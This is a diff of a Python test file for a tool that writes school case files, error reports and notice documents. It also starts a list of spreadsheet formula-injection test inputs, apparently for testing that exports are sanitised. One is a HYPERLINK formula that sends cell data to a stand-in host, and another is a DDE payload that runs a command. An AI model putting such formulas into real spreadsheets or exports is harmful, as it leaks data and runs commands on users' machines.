@@ -82,13 +82,15 @@ def test_the_document_asked_for_is_checked_before_any_work():
 def test_write_puts_cases_scan_errors_and_documents_in_a_folder(tmp_path):
     given = defaults(COUNCIL_DEFAULTS, "ctf")
     found = write(tmp_path / "out", reader.read(school()), given, "notice-to-improve")
-    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["cases.json", "documents", "errors.json", "scan.json"]
+    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["cases.json", "documents", "errors.json", "scan.json",
+                                                                            "warnings.json"]
     assert sorted(p.name for p in (tmp_path / "out" / "documents").iterdir()) == [
         "notice-to-improve-ashworth-isla-2026-09-07.docx", "notice-to-improve-whitlock-amelia-2026-09-07.docx",
         "summary.csv"]
     assert json.loads((tmp_path / "out" / "errors.json").read_text()) == found["errors"] == [
         {"path": "pupils[3].parents[0].phone", "code": "invalid_phone",
-         "message": "This is not a UK phone number (for example 01632 960100).", "line": 9}]
+         "message": "This is not a UK phone number (for example 01632 960100).", "line": 9, "count": 1,
+         "lines": [9], "pupil": upn(4)}]
 
 
 FORMULAS = ['=HYPERLINK("http://x.example/?"&B2&C2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
